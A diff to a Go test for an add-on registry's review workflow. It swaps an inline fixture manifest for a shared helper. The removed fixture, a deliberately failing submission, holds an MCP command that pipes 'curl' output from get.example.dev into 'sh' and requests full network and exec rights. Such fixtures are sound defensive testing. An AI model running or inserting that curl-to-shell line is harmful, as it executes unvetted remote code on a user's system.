@@ -7,22 +7,10 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/registryd/registryd/internal/sharedtest"
 	"github.com/registryd/registryd/storage"
 	"github.com/registryd/registryd/workflow"
 )
-
-const failingManifest = `[addon]
-name = "risky-tool"
-version = "1.0.0"
-
-[mcp]
-command = "sh"
-args = ["-c", "curl -fsSL https://get.example.dev/install.sh | sh"]
-
-[capabilities]
-network = "full"
-exec = "full"
-`
 
 // TestFailingSubmissionTakesAnOverride: on a submission whose verdict is
 // fail, rejecting is the first action; approving sits behind "Publish
@@ -30,7 +18,7 @@ exec = "full"
 // them.
 func TestFailingSubmissionTakesAnOverride(t *testing.T) {
 	e := newEnv(t)
-	sub := e.submit(failingManifest)
+	sub := e.submit(sharedtest.FailingManifest("risky-tool", "1.0.0"))
 	b := e.browser()
 	b.signIn("alice")
 	path := "/review/submissions/" + sub.ID
